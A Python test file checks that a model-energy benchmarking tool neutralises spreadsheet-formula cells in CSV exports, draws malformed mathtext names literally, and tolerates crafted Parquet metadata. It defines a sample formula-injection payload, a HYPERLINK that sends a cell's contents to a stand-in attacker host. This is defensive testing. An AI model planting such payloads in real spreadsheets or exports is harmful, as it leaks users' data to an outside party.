"""Text from models and files that a tool downstream would run (issue 20): CSV cells that start a
spreadsheet formula, mathtext in names matplotlib draws, crafted pandas metadata in a Parquet
leaderboard file."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from slm_energy_plugin.cli import main
from slm_energy_plugin.results import storage
from slm_energy_plugin.results.export import read_export

from ..leaderboard import samples
from ..results.test_schema import full_run
from ..run_factory import make_run

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
MATHTEXT = r"m$\frac{1$"   # an unclosed mathtext fraction: matplotlib raises ValueError drawing it


def _run_dir(tmp_path: Path, aliases: list[str], response: str = "12") -> Path:
    run_dir = tmp_path / "run"
    runs = []
    for alias in aliases:
        run = full_run().with_alias(alias)
        runs.append(replace(run, records=tuple(replace(r, response=response) for r in run.records)))
    storage.write_model_runs(run_dir, runs)
    return run_dir


def test_csv_export_neutralises_formula_cells_and_reads_back(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _run_dir(tmp_path, [FORMULA, "@SUM(1+1)"], response="-2+3 is 1")
    out = tmp_path / "run.csv"
    assert main(["export", str(run_dir), "--format", "csv", "-o", str(out)]) == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or c.startswith("-") and c[1:2].isalpha()]
    assert f"'{FORMULA}" in cells and "'@SUM(1+1)" in cells and "'-2+3 is 1" in cells
    back = read_export(out, "csv")   # the quote is the CSV's, not the data's
    assert set(back["model"]) == {FORMULA, "@SUM(1+1)"} and set(back["response"]) == {"-2+3 is 1"}


def test_compare_csv_neutralises_formula_cells(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _run_dir(tmp_path, [FORMULA, "plain"])
    assert main(["compare", str(run_dir), "--format", "csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
    assert f"'{FORMULA}" in cells and FORMULA not in cells


@pytest.mark.parametrize("command", ["plot", "report"])
def test_plot_and_report_draw_a_mathtext_alias_as_written(tmp_path: Path, command: str,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    run_dir = _run_dir(tmp_path, [MATHTEXT, "plain"])
    output = tmp_path / ("plots" if command == "plot" else "report.html")
    extra = ["--format", "svg"] if command == "plot" else []
    assert main([command, str(run_dir), "-o", str(output), *extra]) == 0, capsys.readouterr().err
    if command == "plot":
        assert any(MATHTEXT in svg.read_text(encoding="utf-8") for svg in output.glob("*.svg"))
    else:
        assert "m$\\frac{1$" in output.read_text(encoding="utf-8")


def test_leaderboard_plot_draws_a_mathtext_name_as_written(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    frame = samples.llm_perf_frame("A10")
    frame.loc[0, frame.columns[0]] = "org/" + MATHTEXT   # a leaderboard model name
    table = tmp_path / "llm-perf-A10.csv"
    frame.to_csv(table, index=False)
    run_dir = tmp_path / "own"
    storage.write_model_runs(run_dir, [make_run(MATHTEXT, [1.0] * 4)])
    plots = tmp_path / "plots"
    assert main(["leaderboard", str(table), "--plot", str(plots), "--runs", str(run_dir)]) == 0, \
        capsys.readouterr().err
    assert list(plots.glob("*.png"))


@pytest.mark.parametrize("metadata", [
    b"not json at all",
    json.dumps({"index_columns": ["no_such_column"], "column_indexes": [], "columns": [],
                "pandas_version": "2.2.0"}).encode(),
    json.dumps({"index_columns": [{"kind": "range", "name": None, "start": "x", "stop": None, "step": 1}],
                "columns": [{"name": 1, "field_name": ["x"], "pandas_type": "int64", "numpy_type": "nope",
                             "metadata": None}], "column_indexes": []}).encode(),
], ids=["garbage", "missing-index-column", "wrong-types"])
def test_crafted_pandas_metadata_in_a_parquet_leaderboard_file(tmp_path: Path, metadata: bytes,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    table = pa.Table.from_pandas(samples.open_llm_frame(), preserve_index=False)
    crafted = table.replace_schema_metadata({b"pandas": metadata})
    path = tmp_path / "open-llm.parquet"
    pq.write_table(crafted, path)
    with pytest.raises(Exception):   # what pandas itself does with the file: a traceback
        pd.read_parquet(path)
    code = main(["leaderboard", str(path), "--format", "json"])
    err = capsys.readouterr().err
    assert "Traceback" not in err and len(err.strip().splitlines()) <= 1
    assert code == 0   # the columns are all a table needs: it is read, its metadata ignored
